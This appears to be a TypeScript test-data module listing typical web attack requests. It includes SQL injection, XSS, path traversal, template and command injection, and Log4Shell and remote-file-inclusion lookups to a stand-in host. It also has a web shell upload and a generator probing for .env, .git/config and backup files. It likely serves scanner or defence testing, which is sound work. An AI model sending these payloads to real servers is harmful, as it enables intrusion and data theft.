/** What attackers ask for: the kinds of requests that every server on the Internet sees. None of them does anything to whoever reads them. */

interface Payload {
  readonly method: string;
  readonly target: string;
  readonly agent?: string;
}

const forms = ['/search?q=', '/products/list?category=', '/support/ticket?id=', '/news?year='];
const injections = [
  '1%27%20OR%20%271%27=%271',
  '1%20UNION%20SELECT%20NULL,NULL,version()--%20-',
  '1;WAITFOR%20DELAY%20%270:0:5%27--',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '..%2f..%2f..%2f..%2fetc%2fpasswd',
  '%7B%7B7*7%7D%7D',
  '%24(id)',
  'http://203.0.113.77/x.txt%3f',
];

export const attackPayloads: readonly Payload[] = [
  ...forms.flatMap((form) => injections.map((injection): Payload => ({ method: 'GET', target: `${form}${injection}` }))),
  { method: 'GET', target: '/cgi-bin/../../../../etc/passwd' },
  { method: 'POST', target: '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php' },
  { method: 'GET', target: '/index.php?page=php://filter/convert.base64-encode/resource=config' },
  { method: 'GET', target: '/?x=${jndi:ldap://203.0.113.77/a}', agent: '${jndi:ldap://203.0.113.77/a}' },
  { method: 'POST', target: '/upload.php?name=\\"shell.php\\"' },
  { method: 'GET', target: '/uploads/shell.php?cmd=id' },
];

const folders = ['', '/admin', '/backup', '/old', '/test', '/wp-content', '/cgi-bin', '/phpmyadmin', '/api', '/config'];
const names = [
  'index',
  'login',
  'config',
  'backup',
  'db',
  'dump',
  'test',
  'info',
  'setup',
  'install',
  'shell',
  'users',
  'admin',
  '.env',
  '.git/config',
  'web.config',
];
const endings = ['.php', '.bak', '.old', '.zip', '.sql', '.tar.gz', '.txt', '.asp', '.jsp', '~', ''];

/** The target of the probe of this number; after all of them they come again with a number behind. */
export function probes(number: number): string {
  const all = folders.length * names.length * endings.length;
  const i = number % all;
  const round = Math.floor(number / all);
  const folder = folders[i % folders.length];
  const name = names[Math.floor(i / folders.length) % names.length];
  const ending = endings[Math.floor(i / (folders.length * names.length))];
  return `${folder}/${name}${round === 0 ? '' : round + 1}${ending}`;
}
